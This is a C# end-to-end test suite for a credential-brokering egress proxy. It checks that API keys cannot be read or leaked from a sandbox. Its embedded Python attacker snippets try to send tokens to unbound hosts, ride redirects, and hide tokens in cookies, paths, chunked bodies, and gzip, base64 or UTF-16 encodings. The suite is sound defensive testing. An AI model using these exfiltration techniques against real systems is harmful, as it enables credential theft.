using System.Text;
using Centaur.EndToEnd.Egress.Vendors;
using Shouldly;
using Xunit;

namespace Centaur.EndToEnd.Egress.Attacks;

/// <summary>Ways to read a key, or to send it elsewhere, from inside of a jail (invariant I4).</summary>
[Collection(AttackedCollection.Name)]
public sealed class CredentialAttackTests(AttackedInstallation installation)
{
    readonly Attacker attacker = new(installation);

    static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    [Fact]
    public async Task F33_a_vendor_that_echoes_what_it_received_tells_the_jail_a_placeholder()
    {
        var found = await attacker.Try(
            """
            answer = ask("/f33", headers=bearer())
            say("verdict", verdict(answer))
            say("echoes", answer.count(os.environ["VENDOR_TOKEN"]))
            """, Cancellation);

        found.Word("verdict").ShouldBe("200");
        found["echoes"].GetInt32().ShouldBeGreaterThanOrEqualTo(2);
        Received("/f33").ShouldHaveSingleItem().Headers["Authorization"].ShouldBe(installation.Key.Authorization);
        var outcome = (await attacker.Records(record => record.TryGetProperty("scrubbed", out _), Cancellation)).Last(record => record.TryGetProperty("scrubbed", out _));
        outcome.GetProperty("scrubbed").GetInt64().ShouldBeGreaterThanOrEqualTo(2);
    }

    [Fact]
    public async Task F33_a_key_is_not_sent_to_a_host_that_it_is_not_bound_to()
    {
        var found = await attacker.Try($"""say("verdict", verdict(ask("/f33", host="{AttackedInstallation.Unbound}", headers=bearer())))""", Cancellation);

        found.Word("verdict").ShouldBe("403 placeholder_not_bound");
        installation.Origin.Received(AttackedInstallation.Unbound).ShouldNotContain(request => request.Target == "/f33");
        (await attacker.Refusals(AttackedInstallation.Unbound, 1, Cancellation)).ShouldBe(["placeholder_not_bound"]);
    }

    [Theory]
    [InlineData("/letters")]
    [InlineData("/packed")]
    public async Task F34_a_key_is_found_in_an_answer_whichever_way_it_comes(string path)
    {
        var found = await attacker.Try(
            $"""
            answer = ask("{path}", headers=bearer())
            text = re.sub(r"\r\n[0-9a-f]+\r\n", "", answer)
            say("verdict", verdict(answer))
            say("placeholder", os.environ["VENDOR_TOKEN"] in text)
            """, Cancellation);

        found.Word("verdict").ShouldBe("200");
        found["placeholder"].GetBoolean().ShouldBeTrue();
        Received(path).ShouldAllBe(request => request.Headers["Authorization"] == installation.Key.Authorization);
    }

    [Fact]
    public async Task F34_a_redirect_takes_no_key_with_it()
    {
        var found = await attacker.Try(
            """
            answer = subprocess.run(["curl", "-sS", "-L", "-D", "-", "-H", bearer().strip(), "https://api.vendor.test/redirect"], capture_output=True, text=True).stdout
            say("location", re.search(r"(?i)location: \S+", answer)[0].replace(os.environ["VENDOR_TOKEN"], "PLACEHOLDER"))
            say("denied", re.findall(r"(?i)x-centaur-denied: (\S+)", answer))
            """, Cancellation);

        found.Word("location").ShouldEndWith("?t=PLACEHOLDER");
        found["denied"].EnumerateArray().Select(word => word.GetString()).ShouldBe(["placeholder_not_bound"]);
        installation.Origin.Received(AttackedInstallation.Unbound).ShouldNotContain(request => request.Target.StartsWith("/?t=", StringComparison.Ordinal));
    }

    [Fact]
    public async Task F35_a_placeholder_is_swapped_where_it_is_bound_alone()
    {
        var found = await attacker.Try(
            """
            token, form = os.environ["VENDOR_TOKEN"], os.environ["FORM_TOKEN"]
            say("header", verdict(ask("/f35-header", headers=bearer())))
            say("basic", verdict(ask("/f35-basic", headers="Authorization: Basic " + base64.b64encode(("user:" + token).encode()).decode() + "\r\n")))
            say("query", verdict(ask("/f35-query?key=" + form)))
            say("cookie", verdict(ask("/f35-cookie", headers="Cookie: session=" + token + "\r\n")))
            say("parameter", verdict(ask("/f35-parameter?other=" + form)))
            say("path", verdict(ask("/f35-path/" + form)))
            say("percent", verdict(ask("/f35-percent?key=%" + format(ord(form[0]), "x") + form[1:])))
            """, Cancellation);

        found.Word("header").ShouldBe("200");
        found.Word("basic").ShouldBe("200");
        found.Word("query").ShouldBe("200");
        foreach (var place in (string[])["cookie", "parameter", "path", "percent"])
        {
            found.Word(place).ShouldBe("403 placeholder_not_bound", place);
            Received("/f35-" + place).ShouldBeEmpty();
        }

        Received("/f35-header").ShouldHaveSingleItem().Headers["Authorization"].ShouldBe(installation.Key.Authorization);
        Received("/f35-basic").ShouldHaveSingleItem().Headers["Authorization"].ShouldBe("Basic " + Convert.ToBase64String(Encoding.ASCII.GetBytes("user:" + installation.Key.Value)));
        Received("/f35-query").ShouldHaveSingleItem().Target.ShouldBe("/f35-query?key=" + installation.FormKey.Value);
        (await attacker.Refusals(AttackedInstallation.Host, 4, Cancellation)).ShouldAllBe(cause => cause == "placeholder_not_bound");
    }

    [Fact]
    public async Task F35_a_body_is_swapped_over_two_chunks_and_never_where_the_placeholder_is_encoded()
    {
        var found = await attacker.Try(
            """
            form = os.environ["FORM_TOKEN"].encode()
            pieces = b"".join(f"{len(piece):x}\r\n".encode() + piece + b"\r\n" for piece in (b"key=", form[:9], form[9:])) + b"0\r\n\r\n"
            def swapped(answer, sent):
                return [verdict(answer), sent.decode("latin-1") in answer]
            say("chunks", swapped(send(b"POST /f35-chunks HTTP/1.1\r\nHost: api.vendor.test\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n" + pieces), b"key=" + form))
            for name, body in {"gzip": gzip.compress(form), "base64": base64.b64encode(form), "utf-16": form.decode().encode("utf-16-le")}.items():
                say(name, swapped(ask("/f35-" + name, method="POST", body=body), body))
            """, Cancellation);

        // An answer that holds the placeholder held the key, and was searched; one that holds the very bytes was not touched on either way.
        foreach (var form in (string[])["chunks", "gzip", "base64", "utf-16"])
            found[form].EnumerateArray().Select(each => each.ToString()).ShouldBe(["200", "True"], form);
        var bodies = installation.Bodies;
        bodies["/f35-chunks"].ShouldBe("key=" + installation.FormKey.Value);
        foreach (var form in (string[])["gzip", "base64", "utf-16"])
            new KeySearch(installation.FormKey.Value).IsIn(Encoding.Latin1.GetBytes(bodies["/f35-" + form])).ShouldBeFalse(form);
    }

    [Fact]
    public async Task F35_a_head_that_goes_on_in_a_second_frame_of_HTTP2_is_read_whole()
    {
        var found = await attacker.Try(
            """
            fill = [word for number in range(9) for word in ("-H", f"x-fill-{number}: {'f' * 2500}")]
            def curl(*words):
                return subprocess.run(["curl", "-sS", "--http2", "-o", "/dev/null", "-w", "%{http_version} %{http_code}", *fill, *words], capture_output=True, text=True).stdout
            say("bound", curl("-H", bearer().strip(), "https://api.vendor.test/f35-frames"))
            say("unbound", curl("-H", "x-late: " + os.environ["VENDOR_TOKEN"], "https://api.vendor.test/f35-late"))
            """, Cancellation);

        found.Word("bound").ShouldBe("2 200");
        found.Word("unbound").ShouldBe("2 403");
        Received("/f35-frames").ShouldHaveSingleItem().Headers["Authorization"].ShouldBe(installation.Key.Authorization);
        Received("/f35-late").ShouldBeEmpty();
    }

    [Fact]
    public async Task F36_an_error_of_the_vendor_tells_nothing_and_no_log_of_the_host_holds_the_key()
    {
        var found = await attacker.Try(
            """
            say("verdict", verdict(ask("/broken?key=" + os.environ["FORM_TOKEN"], headers=bearer(), method="POST", body=b"a=" + os.environ["FORM_TOKEN"].encode())))
            say("unreachable", verdict(ask("/", host="rebound.test", headers=bearer())))
            """, Cancellation);

        found.Word("verdict").ShouldBe("500");
        found.Word("unreachable").ShouldBe("403 placeholder_not_bound");
        Received("/broken").ShouldHaveSingleItem().Target.ShouldContain(installation.FormKey.Value);
        await attacker.Records(record => record.Text("path") == "/broken", Cancellation);
        // A home holds what its jail was told, and that was searched; its image is gigabytes of nothing besides.
        string[] images = [.. Directory.EnumerateFiles(installation.Home, "home.img", SearchOption.AllDirectories)];
        foreach (var key in installation.Keys)
            new KeySearch(key.Value).Files(installation.Home, [installation.Layout.SecretsFolder, installation.Layout.HarnessesFolder, .. images]).ShouldBeEmpty();
    }

    [Fact]
    public async Task F46_a_neighbours_placeholder_is_only_text()
    {
        var neighbour = new Attacker(installation);
        var theirs = (await neighbour.Try("""say("token", os.environ["VENDOR_TOKEN"])""", Cancellation)).Word("token");

        var found = await attacker.Try(
            $"""
            say("own", os.environ["VENDOR_TOKEN"])
            say("verdict", verdict(ask("/f46", headers="Authorization: Bearer {theirs}\r\n")))
            """, Cancellation);

        found.Word("own").ShouldNotBe(theirs);
        found.Word("verdict").ShouldBe("200");
        Received("/f46").ShouldHaveSingleItem().Headers["Authorization"].ShouldBe("Bearer " + theirs);
    }

    /// <summary>What the vendor received on this path.</summary>
    IReadOnlyList<VendorRequest> Received(string path) =>
        [.. installation.Origin.Received(AttackedInstallation.Host).Where(request => request.Target.Split('?')[0] == path || request.Target.StartsWith(path + "/", StringComparison.Ordinal))];
}
